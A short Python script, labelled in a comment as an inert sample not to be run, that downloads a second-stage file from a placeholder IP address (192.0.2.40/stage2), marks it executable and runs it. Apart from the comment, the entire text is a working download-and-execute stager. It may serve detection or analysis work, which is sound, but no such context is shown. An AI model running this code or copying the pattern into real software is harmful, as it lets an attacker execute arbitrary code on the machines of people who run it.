# INERT SAMPLE: never run.
import os, sys, tempfile
from urllib.request import urlopen

with tempfile.NamedTemporaryFile(suffix=".bin", delete=False) as f:
    f.write(urlopen("http://192.0.2.40/stage2").read())
os.chmod(f.name, 0o755)
os.system(f.name)
